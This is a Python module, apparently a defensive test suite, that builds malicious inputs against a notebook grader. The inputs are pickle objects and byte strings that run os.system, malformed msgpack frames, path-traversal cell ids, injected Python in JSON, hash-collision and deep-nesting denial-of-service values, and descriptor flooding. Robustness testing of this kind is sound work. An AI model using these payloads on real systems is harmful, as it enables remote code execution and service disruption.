"""Making the grader execute, believe or allocate something: what crosses the boundary, byte by byte."""

from __future__ import annotations

from attacks.forge import framed
from attacks.model import Attack, Document, code_cell


def _returning(name: str, says: str, body: str, cell: str = "") -> Attack:
    return Attack(name, "execute", says, cell=cell, control=False,
                  answers={"*": "def {name}(*arguments):\n    " + body.strip().replace("\n", "\n    ")})  # fmt: skip


VALUES = [
    _returning("reduce", "an object whose pickle runs a command", """
class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch " + OUTSIDE + "/marker-reduce",)
return Payload()"""),
    _returning("object-dtype", "an array of objects with __reduce__", """
class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch " + OUTSIDE + "/marker-object-dtype",)
return np.array([Payload(), Payload()], dtype=object)"""),
    _returning("structured-dtype", "a structured array with object fields and titles",
               "return np.zeros(3, dtype=[(('title', 'a'), 'O'), ('b', 'f8')])"),
    _returning("dtype-metadata", "a dtype that carries metadata", """
return np.zeros(np.shape(arguments[0]), dtype=np.dtype('f8', metadata={'x': lambda: 1}))"""),
    _returning("array-interface", "an object that points NumPy at foreign memory", """
class Pointer:
    __array_interface__ = {'shape': (4, 3), 'typestr': '<f8', 'data': (8, False), 'version': 3}
return Pointer()"""),
    _returning("strides-beyond", "an array whose strides lead out of its memory",
               "return np.lib.stride_tricks.as_strided(np.zeros(1), (4, 3), (2**40, 2**40))"),
    _returning("memory-view", "a memoryview of memory that changes", """
import threading
data = bytearray(96)
def change():
    while True:
        data[0] = (data[0] + 1) % 256
threading.Thread(target=change, daemon=True).start()
return memoryview(data)"""),
    _returning("changing-array", "an array that a thread changes while it is sent", """
import threading
data = np.zeros((2000, 500))
def change():
    while True:
        data[:] = np.random.rand()
threading.Thread(target=change, daemon=True).start()
return data"""),
    _returning("shared-memory", "an array in shared memory that another process changes", """
import mmap
data = np.frombuffer(mmap.mmap(-1, 2**20), np.float64)
return data"""),
    _returning("huge-integer", "an integer of a million digits", "return 10 ** 1_000_000"),
    _returning("long-text", "a text of 100 MB", "return 'x' * 100_000_000"),
    _returning("lone-surrogates", "text that no encoding takes", "return '\\ud800' * 10"),
    _returning("cyclic", "a list that holds itself", """
value = []
value.append(value)
return value"""),
    _returning("deep", "a list nested a hundred thousand levels deep", """
value = []
for _ in range(100_000):
    value = [value]
return value"""),
    _returning("wide", "a list of ten million numbers", "return [0.0] * 10_000_000"),
    _returning("colliding-keys", "a dictionary whose integer keys all have one hash",
               "return {key * (2**61 - 1): 0 for key in range(1, 4000)}"),
    _returning("nan-keys", "a dictionary with thousands of NaN keys",
               "return {float('nan'): n for n in range(5000)}"),
    _returning("large-key", "a dictionary whose key has ten million characters",
               "return {'k' * 4_000_000: np.zeros(3), ('k' * 4_000_000,): 1}"),
    _returning("text-of-an-exception", "an exception whose text never ends", """
class Endless(Exception):
    def __str__(self):
        return 'x' * 50_000_000
raise Endless"""),
    _returning("chain-of-exceptions", "an exception with ten thousand causes", """
error = None
for number in range(10_000):
    new = ValueError(str(number))
    new.__cause__ = error
    error = new
raise error"""),
]  # fmt: skip

_PICKLE = "b'cposix\\nsystem\\n(S\"touch /tmp/marker-frame-pickle\"\\ntR.'"

FRAMES = [
    framed("frame-pickle", "execute", "a pickle in the place of a message",
           _PICKLE + ", frame(" + _PICKLE + "), frame({'ok': " + _PICKLE + "})"),
    framed("frame-extension", "execute", "msgpack's extension types, timestamps among them",
           "frame(b'\\xc7\\x05\\x2apickl'), frame(b'\\xd7\\xff' + bytes(8)), frame(b'\\xc7\\x0c\\xff' + bytes(12))"),
    framed("frame-object-dtype", "execute", "an array said to hold objects, at addresses of its choice",
           "frame({'ok': ['a', '|O', [2]]}, bytes(range(64)))"),
    framed("frame-dtype-string", "execute", "dtype strings that NumPy would evaluate",
           "*[frame({'ok': ['a', text, [1]]}, bytes(64)) for text in "
           "('f8,f8', '(1000000000,)f8', 'O', '|V99999999', \"{'names':['a'],'formats':['O']}\", 'M8[ns]')]"),
    framed("frame-shapes", "execute", "negative, enormous and empty shapes",
           "*[frame({'ok': ['a', '<f8', shape]}, bytes(64)) for shape in "
           "([-1], [2**62, 2**62], [0, 2**63 - 1], [1] * 100, [2**31] * 2, [1.5], ['3'])]"),
    framed("frame-beyond", "execute", "an array longer than its message",
           "frame({'ok': ['a', '<f8', [10**6]]}, bytes(64))"),
    framed("frame-booleans", "execute", "booleans that are neither true nor false",
           "frame({'ok': ['a', '|b1', [64]]}, bytes([2] * 64))"),
    framed("frame-integer-text", "execute", "an integer in a text of a million digits, and other texts",
           "*[frame({'ok': ['i', text]}) for text in ('9' * 1_000_000, '0x' + 'f' * 5000, '__import__', '1_0')]"),
    framed("frame-nesting", "execute", "a message nested a million levels deep",
           "frame(b'\\x91' * 1_000_000 + b'\\xc0')"),
    framed("frame-claims", "execute", "lengths of gigabytes, and nothing behind them",
           "b'AGK1' + struct.pack('<IQ', 2**32 - 1, 2**64 - 1)"),
    framed("frame-many-empty-lists", "execute", "sixteen million empty lists in sixteen megabytes",
           "frame(b'\\xdd' + (15_000_000).to_bytes(4, 'big') + b'\\x90' * 15_000_000)"),
    framed("frame-colliding-keys", "execute", "a hundred thousand keys with one hash, which cost it nothing",
           "frame({'ok': ['d', [[['i', hex(key * (2**61 - 1))], None] for key in range(1, 99_000)]]})"),
    framed("frame-unhashable-keys", "execute", "lists, arrays and dictionaries as keys",
           "*[frame({'ok': ['d', [[key, 1]]]}) for key in (['t', [['l', []]]], ['l', []], ['a', '<f8', [0]])]"),
    framed("frame-strings", "execute", "a million strings, one of them long",
           "frame({'ok': ['u', [100_000], [''] * 99_999 + ['x' * 10_000_000]]})"),
    framed("frame-typename", "execute", "a handle whose type is a format string and a script",
           "frame({'ok': ['H', 1, '{0.__class__.__init__.__globals__}<script>hello-frame-typename</script>' * 9]})"),
    framed("frame-drip", "exhaust", "one byte of an answer now and then",
           "frame({'ok': 1})[:10]", then="""
    for number in sockets():
        for byte in frame({'ok': 1})[10:] * 1000:
            time.sleep(0.05)
            os.write(number, bytes([byte]))""".strip()),
    framed("frame-upcalls-without-end", "exhaust", "asking the reference again and again",
           "frame({'up': 'softmax', 'args': ['t', [['l', []], ['d', []]]]})",
           then="while True: send(frame({'up': 'softmax', 'args': ['t', [['l', []], ['d', []]]]}))"),
    Attack("descriptors-to-the-grader", "execute", "descriptors sent along, to fill the grader's table",
           control=False, nbgrader=False, cell="""
import array, os, socket, stat
def send_descriptors():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as sock:
                    for _ in range(100):
                        sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                               array.array("i", [0] * 50))])
        except OSError:
            pass
""", answers={"*": "def {name}(*args):\n    send_descriptors()"}),
]  # fmt: skip


def _traversal(document: Document) -> None:
    for cell in document["cells"]:
        cell["id"] = "../../../tmp/marker-traversal"
    document["cells"].append({
        "id": "../x", "cell_type": "markdown", "metadata": {}, "source": "![x](attachment:../../x)",
        "attachments": {"../../../../tmp/marker-traversal": {"image/png": "eA=="}},
    })  # fmt: skip


def _strange_values(document: Document) -> None:
    document["nbformat_minor"] = 10**30
    document["metadata"] = {"__class__": "os.system", "x": float("inf")}
    for number, cell in enumerate(document["cells"]):
        cell["execution_count"] = -(10**40)
        cell["metadata"]["tags"] = [None, {"a": 1}, "x" * 10**5]
        cell["outputs"] = {"not": "a list"} if number % 2 else [{"output_type": "display_data", "data": 3}]


def _replaced(raw: bytes, old: bytes, new: bytes) -> bytes:
    assert old in raw
    return raw.replace(old, new, 1)


NOTEBOOKS = [
    Attack("paths-in-the-notebook", "execute", "cell ids and attachments that are paths", control=False,
           alter=_traversal),
    Attack("strange-values", "execute", "numbers, tags and outputs of the wrong kind and size", control=False,
           alter=_strange_values, nbgrader=False),
    Attack("python-in-json", "execute", "a Python expression where JSON is expected", control=False,
           refused=True, nbgrader=False,
           raw=lambda raw: b"__import__('os').system('touch /tmp/marker-python-in-json')"),
    Attack("digits-in-json", "execute", "a number of a million digits in the notebook", control=False,
           refused=True, nbgrader=False,
           raw=lambda raw: _replaced(raw, b'"nbformat": 4', b'"nbformat": 4' + b"4" * 1_000_000)),
    Attack("nested-json", "execute", "a notebook nested a hundred thousand levels deep", control=False,
           refused=True, nbgrader=False,
           raw=lambda raw: _replaced(raw, b'"metadata": {', b'"metadata": {"x": ' + b"[" * 10**5 + b"]" * 10**5 + b", ")),
    Attack("doubled-keys", "execute", "every key of the notebook twice", control=False, refused=True,
           raw=lambda raw: _replaced(raw, b'"cells":', b'"cells": [], "cells":')),
    Attack("pickled-output", "execute", "a pickle as a saved output", control=False,
           alter=lambda document: document["cells"].append({**code_cell("1"), "outputs": [
               {"output_type": "display_data", "metadata": {},
                "data": {"application/x-pickle": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"}}]})),
    Attack("not-a-number-in-json", "execute", "NaN and infinities in the notebook", control=False,
           refused=True,
           raw=lambda raw: _replaced(raw, b'"metadata": {', b'"metadata": {"x": [NaN, -Infinity, 1e999], ')),
    Attack("thousands-of-cells", "execute", "two thousand cells", control=False, nbgrader=False, refused=True,
           alter=lambda document: document["cells"].extend(code_cell(f"x = {n}") for n in range(1950))),
]  # fmt: skip

ATTACKS = [*VALUES, *FRAMES, *NOTEBOOKS]
